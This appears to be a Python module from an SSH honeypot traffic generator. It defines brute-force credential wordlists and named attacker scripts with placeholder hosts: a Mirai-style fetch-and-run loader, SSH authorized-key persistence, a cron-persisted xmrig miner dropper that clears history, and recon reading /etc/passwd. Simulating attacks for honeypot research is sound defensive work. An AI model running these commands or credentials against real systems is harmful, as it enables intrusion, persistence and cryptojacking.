"""Built-in wordlists and command scripts that scenarios refer to by name.

The credential pairs are the defaults and weak passwords that dominate
brute-force traffic on SSH honeypots. The scripts follow the shapes seen
there: reconnaissance one-liners, loaders that fetch and run a binary,
key-based persistence and miner droppers. A scenario may define its own under
the same keys; a scenario entry replaces a built-in of the same name.

Script placeholders, filled per session by the generator:
`{url}` the payload URL, `{c2}` the command-and-control host, `{c2_port}`
its port, `{file}` a random file name, `{token}` a random word,
`{ssh_key}` the actor's public key line.
"""

from __future__ import annotations

import re
from typing import Final

PLACEHOLDER: Final = re.compile(r"(?<!\$)\{([a-z0-9_]+)\}")
PLACEHOLDERS: Final = frozenset({"url", "c2", "c2_port", "file", "token", "ssh_key"})

_COMMON_PAIRS = """
root:123456 root:root root:admin root:password root:12345678 root:1234
root:12345 root:123456789 root:qwerty root:111111 root:toor root:1qaz2wsx
root:P@ssw0rd root:abc123 root:1q2w3e4r root:test root:000000 root:default
root:changeme root:alpine root:raspberry root:ubuntu root:centos root:server
admin:admin admin:123456 admin:password admin:admin123 admin:1234 admin:12345
user:user user:123456 user:password test:test test:123456 guest:guest
ubuntu:ubuntu ubuntu:123456 pi:raspberry oracle:oracle postgres:postgres
git:git ftpuser:ftpuser support:support deploy:deploy hadoop:hadoop
mysql:mysql nagios:nagios jenkins:jenkins tomcat:tomcat www:www
""".split()

_ROUTER_PAIRS = """
root:vizxv root:xc3511 root:888888 root:xmhdipc root:juantech root:54321
root:hi3518 root:klv123 root:klv1234 root:Zte521 root:anko root:7ujMko0admin
root:ikwb root:dreambox root:user root:realtek root:00000000 root:1111111
admin:admin1234 admin:smcadmin admin:1111 admin:7ujMko0admin admin:meinsm
support:support supervisor:supervisor service:service mother:fucker
guest:12345 daemon:daemon Administrator:admin 666666:666666 888888:888888
""".split()

# Pairs seen in targeted brute force against cloud hosts: service accounts
# with their own name or a season-and-year password.
_CLOUD_PAIRS = """
ec2-user:ec2-user azureuser:azureuser centos:centos debian:debian
elastic:elastic es:es minecraft:minecraft steam:steam sol:sol solana:solana
validator:validator node:node docker:docker k8s:k8s gitlab:gitlab
odoo:odoo redis:redis vagrant:vagrant ansible:ansible zabbix:zabbix
root:Summer2024 root:Winter2023! root:Passw0rd! root:Admin@123 root:root123
admin:Admin@2024 dev:dev123 backup:backup123 sftp:sftp web:web123
""".split()

WORDLISTS: Final[dict[str, tuple[str, ...]]] = {
    "common": tuple(_COMMON_PAIRS),
    "router": tuple(_ROUTER_PAIRS),
    "cloud": tuple(_CLOUD_PAIRS),
}

SCRIPTS: Final[dict[str, tuple[str, ...]]] = {
    # What most bots run straight after a successful login.
    "recon_basic": (
        "uname -a",
        "cat /proc/cpuinfo | grep name | wc -l",
        "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        "ls -lh $(which ls)",
        "crontab -l",
        "w",
        "uname -m",
        "top",
        "whoami",
        "lscpu | grep Model",
        "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    ),
    # Fetch a binary from the C2 into the first writable folder and run it.
    "mirai_loader": (
        "enable",
        "system",
        "shell",
        "sh",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
        "wget {url} -O {file}; chmod 777 {file}; ./{file} ssh.{token}",
        "rm -rf {file}",
        "/bin/busybox {token}",
    ),
    # Remove rival keys and plant the operator's own.
    "ssh_key_persist": (
        "cd ~; chattr -ia .ssh; lockr -ia .ssh",
        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{ssh_key}">>.ssh/authorized_keys'
        " && chmod -R go= ~/.ssh && cd ~",
        "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
        "uname -a",
    ),
    # Kill competing miners, fetch a setup script, keep it running.
    "miner_dropper": (
        "pkill -9 xmrig; pkill -9 kdevtmpfsi; pkill -9 kinsing",
        "curl -s -L {url} -o /tmp/.{file} || wget -q {url} -O /tmp/.{file}",
        "chmod +x /tmp/.{file} && nohup /tmp/.{file} -o {c2}:{c2_port} -k &",
        '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.{file}") | crontab -',
        "history -c",
    ),
    # Pull a released tool from a public code forge and start it.
    "forge_fetch": (
        "cd /dev/shm || cd /tmp",
        "wget -q {url} -O {file}.tar.gz",
        "tar xzf {file}.tar.gz && cd xmrig-* && "
        "./xmrig -o {c2}:{c2_port} --donate-level 1 -B",
        "rm -f /dev/shm/{file}.tar.gz",
    ),
    # A person looking around by hand.
    "human_recon": (
        "w",
        "id",
        "uname -a",
        "cat /etc/os-release",
        "ls -la",
        "ps aux",
        "netstat -tulpn",
        "cat /etc/passwd",
        "history",
        "exit",
    ),
    # A person staging tools after a look around.
    "human_staging": (
        "cd /tmp",
        "ls -la",
        "wget {url}",
        "chmod +x {file}",
        "./{file} -h",
        "cat ~/.bash_history",
        "exit",
    ),
    # What a scanner runs when a weak password works: one probe, then leave.
    "probe": ("uname -a",),
}
